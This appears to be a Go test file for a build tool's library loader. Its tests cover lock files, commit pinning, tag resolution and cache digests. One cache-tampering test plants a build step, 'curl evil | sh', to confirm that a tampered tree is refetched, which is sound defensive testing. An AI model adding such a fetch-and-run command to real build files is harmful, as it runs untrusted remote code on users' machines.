package library

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/coach-build/coach/pipeline/digest"
)

const def = `name: greet
license: MIT
versions:
  - version: 1.0.0
    path: greet
build:
  - run: make install
`

// gitRepo makes a git repository with software/greet.yaml and returns its
// directory and a function that commits a change to it.
func gitRepo(t *testing.T) (string, func(file, body string) string) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	dir := t.TempDir()
	run := func(args ...string) string {
		t.Helper()
		cmd := exec.Command("git", append([]string{"-C", dir, "-c", "user.email=t@example.com", "-c", "user.name=t"}, args...)...)
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	run("init", "-q", "-b", "main")
	commit := func(file, body string) string {
		t.Helper()
		p := filepath.Join(dir, file)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
		run("add", "-A")
		run("commit", "-q", "-m", file)
		return run("rev-parse", "HEAD")
	}
	commit("software/greet.yaml", def)
	commit("software/greet/Makefile", "install:\n\ttrue\n")
	commit("README", "not a definition\n")
	return dir, commit
}

func repoNaming(t *testing.T, url, ref string) string {
	t.Helper()
	root := t.TempDir()
	body := "libraries:\n  - name: shared\n    git: " + url + "\n"
	if ref != "" {
		body += "    ref: " + ref + "\n"
	}
	if err := os.WriteFile(filepath.Join(root, "libraries.yaml"), []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	return root
}

// loaded is a repository naming a fresh git library (at HEAD), loaded
// once into a cache of its own.
func loaded(t *testing.T) (string, Options, []Resolved) {
	t.Helper()
	lib, _ := gitRepo(t)
	root := repoNaming(t, "file://"+lib, "")
	o := Options{CacheDir: t.TempDir()}
	libs, err := Load(context.Background(), root, o)
	if err != nil {
		t.Fatal(err)
	}
	return root, o, libs
}

// TestLoadPinsTheLockedCommit: an unlocked library is at the commit its ref
// names now; once locked, at the locked commit whatever the ref names
// later, until Upgrade; only software/ is brought.
func TestLoadPinsTheLockedCommit(t *testing.T) {
	ctx := context.Background()
	lib, commit := gitRepo(t)
	first := commit("software/greet/VERSION", "1\n")
	root := repoNaming(t, "file://"+lib, "main")
	o := Options{CacheDir: t.TempDir()}
	libs, err := Load(ctx, root, o)
	if err != nil {
		t.Fatal(err)
	}
	if len(libs) != 1 || libs[0].Commit != first || libs[0].Stale != "there is no libraries.lock" {
		t.Fatalf("got %+v, want the library at %s, stale without a lock", libs, first)
	}
	if _, err := os.Stat(filepath.Join(libs[0].Dir, "software", "greet", "Makefile")); err != nil {
		t.Errorf("the library's software/ is not there: %v", err)
	}
	if _, err := os.Stat(filepath.Join(libs[0].Dir, "README")); err == nil {
		t.Errorf("more than software/ was brought")
	}
	want, _ := digest.Tree(filepath.Join(libs[0].Dir, "software"))
	if libs[0].Digest != want {
		t.Errorf("digest %s, want %s", libs[0].Digest, want)
	}
	if err := WriteLock(root, LockOf(libs)); err != nil {
		t.Fatal(err)
	}
	second := commit("software/greet/VERSION", "2\n")
	libs, err = Load(ctx, root, o)
	if err != nil {
		t.Fatal(err)
	}
	if libs[0].Commit != first || libs[0].Stale != "" {
		t.Errorf("locked: got %s (stale %q), want %s", libs[0].Commit, libs[0].Stale, first)
	}
	if latest, err := Latest(ctx, "file://"+lib, "main"); err != nil || latest != second {
		t.Errorf("Latest: %s %v, want %s", latest, err, second)
	}
	o.Upgrade = true
	libs, err = Load(ctx, root, o)
	if err != nil {
		t.Fatal(err)
	}
	if libs[0].Commit != second || !strings.Contains(libs[0].Stale, "locked at "+first[:12]+", main now names "+second[:12]) {
		t.Errorf("upgrade: got %s (stale %q), want %s", libs[0].Commit, libs[0].Stale, second)
	}
}

// TestATreeThatChangedInTheCacheIsFetchedAgain: the library's tree in the
// cache is used only when it hashes to the lock's digest; one that
// changed is replaced by a fresh checkout.
func TestATreeThatChangedInTheCacheIsFetchedAgain(t *testing.T) {
	ctx := context.Background()
	root, o, libs := loaded(t)
	if err := WriteLock(root, LockOf(libs)); err != nil {
		t.Fatal(err)
	}
	planted := filepath.Join(libs[0].Dir, "software", "greet.yaml")
	if err := os.WriteFile(planted, []byte(def+"  - run: curl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	again, err := Load(ctx, root, o)
	if err != nil {
		t.Fatal(err)
	}
	if again[0].Digest != libs[0].Digest {
		t.Errorf("digest %s, want the lock's %s", again[0].Digest, libs[0].Digest)
	}
	if b, _ := os.ReadFile(planted); string(b) != def {
		t.Errorf("the changed definition was used:\n%s", b)
	}
}

// TestALockThatDoesNotMatchIsRefused: a lock whose digest the commit's tree
// does not hash to fails, naming both.
func TestALockThatDoesNotMatchIsRefused(t *testing.T) {
	ctx := context.Background()
	root, _, libs := loaded(t)
	l := LockOf(libs)
	l.Libraries[0].Digest = "sha256:" + strings.Repeat("0", 64)
	if err := WriteLock(root, l); err != nil {
		t.Fatal(err)
	}
	_, err := Load(ctx, root, Options{CacheDir: t.TempDir()})
	if err == nil || !strings.Contains(err.Error(), "hashes to "+libs[0].Digest) || !strings.Contains(err.Error(), "locks sha256:000") {
		t.Fatalf("got %v, want a digest mismatch", err)
	}
}

// TestLatestPeelsTags: a tag names the commit it points at, an annotated
// one too; a full commit names itself; a missing ref is an error.
func TestLatestPeelsTags(t *testing.T) {
	ctx := context.Background()
	lib, commit := gitRepo(t)
	head := commit("software/greet/VERSION", "1\n")
	for _, args := range [][]string{{"tag", "v1"}, {"tag", "-a", "-m", "one", "v1a"}} {
		cmd := exec.Command("git", append([]string{"-C", lib, "-c", "user.email=t@example.com", "-c", "user.name=t"}, args...)...)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, out)
		}
	}
	for _, ref := range []string{"", "main", "v1", "v1a", head} {
		if got, err := Latest(ctx, "file://"+lib, ref); err != nil || got != head {
			t.Errorf("Latest(%q) = %s, %v; want %s", ref, got, err, head)
		}
	}
	if _, err := Latest(ctx, "file://"+lib, "nope"); err == nil || !strings.Contains(err.Error(), `no branch or tag "nope"`) {
		t.Errorf("a missing ref: %v", err)
	}
}

// TestPathLibrary: a directory is used where it is, relative to the
// repository or absolute, with its digest; a change to it shows as a
// stale lock.
func TestPathLibrary(t *testing.T) {
	ctx := context.Background()
	root, lib := t.TempDir(), t.TempDir()
	os.MkdirAll(filepath.Join(lib, "software"), 0o755)
	os.WriteFile(filepath.Join(lib, "software", "greet.yaml"), []byte(def), 0o644)
	rel, err := filepath.Rel(root, lib)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{lib, rel} {
		os.WriteFile(filepath.Join(root, "libraries.yaml"), []byte("libraries:\n  - name: local\n    path: "+p+"\n"), 0o644)
		libs, err := Load(ctx, root, Options{CacheDir: t.TempDir()})
		if err != nil {
			t.Fatal(err)
		}
		if len(libs) != 1 || filepath.Clean(libs[0].Dir) != lib || libs[0].Commit != "" {
			t.Fatalf("path %s: %+v", p, libs)
		}
		if err := WriteLock(root, LockOf(libs)); err != nil {
			t.Fatal(err)
		}
		os.WriteFile(filepath.Join(lib, "software", "greet.yaml"), []byte(def+"# changed "+p+"\n"), 0o644)
		libs, err = Load(ctx, root, Options{})
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(libs[0].Stale, "its software/ changed") {
			t.Errorf("path %s: a changed path library is not stale: %q", p, libs[0].Stale)
		}
	}
}
